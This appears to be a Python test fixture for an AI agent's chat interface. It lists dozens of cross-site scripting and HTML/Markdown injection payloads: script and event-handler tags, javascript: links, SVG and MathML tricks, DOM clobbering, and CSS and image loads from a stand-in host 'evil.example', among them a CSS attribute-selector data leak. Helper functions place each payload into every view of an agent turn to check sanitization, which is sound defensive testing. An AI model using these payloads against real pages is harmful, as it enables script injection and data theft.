"""Texts that attack a page, and the places where an agent can put them."""

from __future__ import annotations

from typing import Any

FOREIGN = "http://evil.example"
RUN = "window.hacked=(window.hacked||0)+1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={FOREIGN}/pixel.gif>",
    f"![p]({FOREIGN}/pixel.png)",
    f"![p][r]\n\n[r]: {FOREIGN}/ref.png",
    f"<svg onload='{RUN}'><rect/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><use href='{FOREIGN}/a.svg#x'></use></svg>",
    f"<svg><image href='{FOREIGN}/a.svg'/></svg>",
    f"<svg><foreignObject><body onload='{RUN}'></foreignObject></svg>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'>",
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"<a href='javascript:{RUN}' id=hackedlink>a</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>a</a>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a](vbscript:{RUN})",
    "<form id=hackedform><input name=attributes><input name=parentNode></form>",
    f"<form action='{FOREIGN}'><button formaction='javascript:{RUN}'>Allow once</button></form>",
    "<a id=hackedapp name=jupyterapp>x</a><a id=jupyterapp>y</a>",
    "<img name=body><img name=getElementById id=hackedimg>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    f"<iframe src='{FOREIGN}/frame'></iframe>",
    f"<object data='{FOREIGN}/o.swf'></object>",
    f"<embed src='{FOREIGN}/e.svg'>",
    f"<style>@import '{FOREIGN}/a.css'; body {{display: none}}</style>",
    f"<style>input[value^=a] {{background: url({FOREIGN}/leak)}}</style>",
    f"<div style='background: url({FOREIGN}/bg.png); position: fixed' id=hackedbox>x</div>",
    f"<link rel=stylesheet href='{FOREIGN}/l.css'>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/meta'>",
    f"<base href='{FOREIGN}/'>",
    f"<video src='{FOREIGN}/v.mp4' poster='{FOREIGN}/p.png' autoplay onerror='{RUN}'></video>",
    f"<audio src='{FOREIGN}/a.mp3' autoplay></audio>",
    f"<picture><source srcset='{FOREIGN}/s.png'><img srcset='{FOREIGN}/t.png 2x'></picture>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{RUN}' id=hackedinput>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror='{RUN}'></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"```html\n<img src=x onerror='{RUN}'>\n```",
    f"`<img src=x onerror='{RUN}'>`",
    f"```\"><img src=x onerror='{RUN}'>\nx\n```",
    f"```mermaid\nflowchart LR\nA[\"<img src=x onerror='{RUN}'>\"] --> B\n"
    f'click B "javascript:{RUN}"\n```',
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\style{{background:url({FOREIGN}/m)}}{{y}}$",
    f"$\\unicode{{x3c}}img src=x onerror={RUN}\\unicode{{x3e}}$",
    "$\\require{html}\\cssId{hackedmath}{z}$",
    f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
    f"<p onmouseover='{RUN}' onfocus='{RUN}' tabindex=0>hover</p>",
    f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07 \x1b[31m<img src=x onerror='{RUN}'>",
    "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth",
    f"'\"><img src=x onerror='{RUN}'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
]  # fmt: skip


def everywhere(text: str, number: int) -> list[Any]:
    """Steps that put `text` into every view of a turn, but for asks."""
    run = f"p{number}"
    path = text.replace("\n", " ").replace("/", "-")[:120]
    diff = {"path": path, "change": "update", "old": "a\n", "new": text, "added": 1, "removed": 1}

    def tool(kind: str, **given: Any) -> dict[str, Any]:
        return {"emit": {"type": "tool_use_start", "tool_id": f"{run}{kind}", "name": text[:60],
                         "kind": kind, "title": text[:200], **given}}  # fmt: skip

    def end(kind: str, **given: Any) -> dict[str, Any]:
        output = [{"type": "text", "text": text}]
        return {"emit": {"type": "tool_use_end", "tool_id": f"{run}{kind}", "status": "failed",
                         "is_error": True, "output": output, **given}}  # fmt: skip

    return [
        {"think": text},
        {"say": text, "chunks": 1},
        {"say": f"Words before.\n\n{text}\n\nWords after.", "chunks": 7},
        tool("shell", input={"command": text}), end("shell", exit_code=1),
        tool("edit", input={"path": path}), end("edit", diffs=[diff]),
        tool("search", input={"query": text, "path": path}), end("search"),
        tool("read", input={"path": path}), end("read"),
        tool("fetch", input={"url": f"javascript:{RUN}"}), end("fetch"),
        tool("mcp", input={"server": path, "tool": path, "arguments": {"x": text}}), end("mcp"),
        tool("other", input={}, raw_input={"x": text}), end("other"),
        {"emit": {"type": "notice", "level": "warning", "code": "note", "text": text}},
        {"emit": {"type": "plan", "entries": [{"text": text, "status": "in_progress"}]}},
    ]  # fmt: skip


def question(text: str) -> dict[str, Any]:
    """A form full of it."""
    options = [{"label": text, "description": text}, {"label": "plain", "description": text}]
    page = {"id": "q", "header": text[:60], "question": text, "multi_select": False,
            "options": options, "allow_other": True}  # fmt: skip
    return {"question": {"title": text, "detail": text, "questions": [page]}}


def permission(text: str) -> dict[str, Any]:
    """An ask full of it."""
    shell = {"kind": "shell", "command": text}
    return {"ask": {"title": text, "detail": text, "input": shell}}


def plan(text: str) -> dict[str, Any]:
    """A plan to approve."""
    allow = {"id": "go", "label": text[:80], "decision": "allow", "scope": "once"}
    deny = {"id": "no", "label": "No", "decision": "deny", "scope": "once"}
    return {"ask": {"kind": "plan", "title": text, "plan": text, "options": [allow, deny]}}
